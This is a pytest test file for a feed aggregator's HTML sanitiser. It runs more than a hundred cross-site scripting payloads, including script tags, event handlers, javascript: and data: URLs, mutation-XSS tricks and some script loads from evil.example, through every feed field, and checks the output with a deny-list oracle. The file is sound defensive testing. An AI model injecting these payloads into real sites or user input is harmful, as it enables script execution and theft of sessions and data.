"""Vectors of cross-site scripting, in bodies and in every other field.

The oracle is independent: it reads what came out with the standard library's HTML tokenizer and
with lxml, and knows nothing of the sanitiser's lists.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from lxml import html as lxml_html

from aggregator.errors import EntryError
from aggregator.model import Enclosure, Person, Term
from aggregator.normalise.article import normalise
from aggregator.normalise.markup import clean
from tests.normalise.places import NOW, entry, place

VECTORS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<script ~ src=//evil.example/x.js></script ~ >
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" onload='alert(1)'>
<img/src=x/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img """><script>alert(1)</script>">
<IMG SRC="javascript:alert(1)">
<img src="jav&#x09;ascript:alert(1)">
<img src=" &#14; javascript:alert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img srcset="x" onerror=alert(1)>
<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">
<img data-src="javascript:alert(1)" src=x>
<img data-srcset="javascript:alert(1) 1x">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=1 y=20>x</text></a></svg>
<svg><set attributeName=href to="javascript:alert(1)"></svg>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></desc></svg>
<math><mtext><table><mglyph><style><!--</style><a title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<style><img title="</style><img src=x onerror=alert(1)>"></style>
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<select><template><img src=x onerror=alert(1)></template></select>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>
<iframe onload=alert(1) src=//evil.example></iframe>
<iframe src=x><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<iframe src='x"><img src=x onerror=alert(1)>'></iframe>
<iframe src=//x.example title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed src=//evil.example/x.swf allowscriptaccess=always>
<applet code=x></applet>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#x1;javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:image/png;base64,AAAA">x</a>
<a href="//evil.example" onclick=alert(1) onmouseover=alert(1)>x</a>
<a href="x" style="background:url(javascript:alert(1))">x</a>
<a href="https://x.example/'onclick='alert(1)">x</a>
<a href='https://x.example/"onclick="alert(1)'>x</a>
<a href="https://x.example/&quot;onclick=&quot;alert(1)">x</a>
<a title='"><img src=x onerror=alert(1)>'>x</a>
<a title="`onmouseover=alert(1)`">x</a>
<area href="javascript:alert(1)">
<base href="javascript:/a/-alert(1)///////">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url("javascript:alert(1)")}</style>
<div style="width:expression(alert(1))">
<div style="background-image:url(javascript:alert(1))">
<p style='font-family:"x;behavior:url(x.htc)"'>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<isindex action="javascript:alert(1)" type=submit>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<video onerror=alert(1)><source src=x onerror=alert(1)></video>
<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>
<video><track src="data:text/vtt,x" default onload=alert(1)></video>
<audio src=x onerror=alert(1)>
<source srcset="javascript:alert(1)">
<picture><source srcset="x" onerror=alert(1)><img onerror=alert(1) src=x></picture>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="data:text/html,<script>alert(1)</script>">x</q>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<layer src="javascript:alert(1)"></layer>
<bgsound src="javascript:alert(1)">
<x onclick=alert(1)>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<?xml-stylesheet href="javascript:alert(1)"?>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<!doctype html><img src=x onerror=alert(1)>
</p onclick=alert(1)>
<p/onclick=alert(1)>x
<p =onclick=alert(1)>x
<p "onclick=alert(1)>x
<p a='x'onclick=alert(1)>x
<div id=x tabindex=1 onfocus=alert(1)></div>
<custom-element is="x" onclick=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
%3Cscript%3Ealert(1)%3C/script%3E
'''.strip().split("\n")

ADDRESSES = ("href", "src", "poster", "cite", "action", "data", "background", "formaction")
RUNNING = ("script", "style", "iframe", "object", "embed", "applet", "svg", "math", "form", "input",
           "button", "base", "link", "meta", "frame", "frameset", "template", "noscript", "title",
           "textarea", "select", "xmp", "plaintext", "noembed", "noframes", "marquee")  # fmt: skip
SAFE_ADDRESS = re.compile(
    r"(?:https?://|mailto:|tel:|data:image/(?:png|jpeg|gif|webp|avif);base64,)"
)


class Tokens(HTMLParser):
    """Every start tag with its attributes, as the standard library sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str]]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, [(name, value or "") for name, value in attrs]))


def elements(html: str) -> Iterator[tuple[str, list[tuple[str, str]]]]:
    yield from Tokens(html).tags
    for element in lxml_html.document_fromstring(f"<div>{html}</div>").iter():
        if isinstance(element.tag, str):
            yield element.tag, [(str(name), str(value)) for name, value in element.items()]


def dangers(html: str) -> list[str]:
    found = []
    for tag, attributes in elements(html):
        if tag in RUNNING or ":" in tag:
            found.append(tag)
        for name, value in attributes:
            if name.startswith("on") or name in ("style", "srcdoc", "id", "xmlns", "is"):
                found.append(f"{tag} {name}")
            if name in ADDRESSES and not SAFE_ADDRESS.match(value):
                found.append(f"{tag} {name}={value}")
            if name == "srcset" and re.search(r"(?:^|,)\s*(?!https?://)", value):
                found.append(f"{tag} {name}={value}")
    return found


def test_the_list_is_long_enough() -> None:
    assert len(VECTORS) >= 100


def test_the_oracle_sees_most_vectors_raw() -> None:
    assert sum(bool(dangers(vector)) for vector in VECTORS) > len(VECTORS) * 0.8


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize(
    "context", ["{}", "<p>{}</p>", "<table><tr><td>{}", "<div title='{}'>x</div>", "{}{}"]
)
def test_no_vector_survives_in_a_body(vector: str, context: str) -> None:
    html = clean(context.replace("{}", vector.replace(" ~ ", "\n")), "https://paper.example/")
    assert dangers(html) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_survives_in_any_field(vector: str) -> None:
    one = entry(
        title=vector,
        link=vector,
        summary=vector,
        content=vector,
        rights=vector,
        publisher=vector,
        published=vector,
        language=vector,
        image=vector,
        base=vector,
        authors=(Person(vector, vector, vector),),
        terms=(Term(vector, vector),),
        enclosures=(Enclosure(vector, vector),),
    )
    try:
        article = normalise(one, place(), NOW)
    except EntryError:
        return
    assert article is not None
    assert dangers(article.content) == []
    for address in (article.link, article.share_link, article.image, article.public_id):
        assert address == "" or re.match(r"https?://|tag:", address)
    for text in (article.title, article.summary, article.attribution.publisher):
        assert "\n" not in text
    assert all(re.match(r"https?://", file.url) for file in article.enclosures)
    assert article.language == ""
